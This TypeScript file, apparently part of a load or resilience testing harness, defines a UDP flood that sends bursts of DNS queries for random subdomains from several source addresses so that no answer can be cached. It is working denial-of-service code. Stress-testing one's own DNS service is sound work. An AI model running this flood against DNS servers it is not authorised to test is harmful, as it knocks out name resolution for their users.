// A flood of DNS questions for names that nobody has asked before, so that nothing of an answer can be kept.
import { createSocket } from 'node:dgram'
import { randomBytes } from 'node:crypto'
import { encode } from 'dns-packet'
import { type Attack, fromEach } from '../attack.ts'

/** Questions in one turn of one address. */
const BURST = 20

export const DATAGRAM_ATTACKS: readonly Attack[] = [
  {
    name: 'A4 DNS questions over UDP for random names',
    async run(siege) {
      const [host = '', port = ''] = siege.facts.dns.split(':')
      const sockets = new Map(
        siege.from.map((from) => {
          const socket = createSocket('udp4').on('error', () => siege.count('socket errors'))
          socket.on('message', () => siege.count('answers'))
          socket.bind(0, from)
          return [from, socket]
        }),
      )
      try {
        await fromEach(siege, 250, (from) => {
          for (let index = 0; index < BURST; index++) {
            const name = `${randomBytes(6).toString('hex')}.p${randomBytes(8).toString('hex')}.${siege.facts.zone}`
            const question = encode({ type: 'query', id: index, questions: [{ type: 'A', name }] })
            sockets.get(from)?.send(question, Number(port), host)
            siege.count('questions')
          }
        })
      } finally {
        for (const socket of sockets.values()) socket.close()
      }
    },
  },
]
